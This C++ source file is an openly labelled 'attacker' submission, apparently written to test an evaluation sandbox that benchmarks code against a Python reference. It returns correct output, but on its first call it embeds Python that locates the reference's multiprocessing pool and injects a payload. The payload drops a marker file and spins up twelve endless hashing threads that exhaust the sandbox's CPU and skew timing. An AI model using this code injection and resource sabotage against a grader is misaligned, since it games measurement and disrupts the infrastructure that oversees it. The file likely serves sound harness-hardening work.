// An attacker: honest results, but on its first call it has ref.py's multiprocessing pool
// worker (a process of ref.py's, so the sandbox's own: "infra") run code of its choosing,
// through the pool's task pipe, which the harness process (where this code runs) holds.
// The worker then burns both cores from twelve threads (hashlib releases the GIL), forever.
#include <algorithm>
extern "C" int PyGILState_Ensure(void);
extern "C" void PyGILState_Release(int);
extern "C" int PyRun_SimpleString(const char*);

static void honest(const float* x, float* y, int N) {
  for (int i = 0; i < N; ++i) {
    float v = x[i], acc = 0.f;
    for (int k = 0; k < 16; ++k) acc = acc * v + 0.5f;
    y[i] = acc;
  }
}

static const char* HIJACK = R"PY(
import gc, multiprocessing.pool as _mpp
_payload = '''
import threading, hashlib, os
open('/dev/shm/hijacked-%d' % os.getpid(), 'w').write('x')
def _burn():
    b = b'x' * (1 << 22)
    while True:
        hashlib.sha256(b).digest()
for _ in range(12):
    threading.Thread(target=_burn, daemon=True).start()
'''
for _o in gc.get_objects():
    if isinstance(_o, _mpp.Pool):
        _o.apply(exec, (_payload, {}))
)PY";

extern "C" void solve(const float* x, float* buf, float* y, int N) {
  static bool done = false;
  if (!done) {
    done = true;
    int g = PyGILState_Ensure();
    PyRun_SimpleString(HIJACK);
    PyGILState_Release(g);
  }
  honest(x, y, N);
  std::sort(buf, buf + N);
}
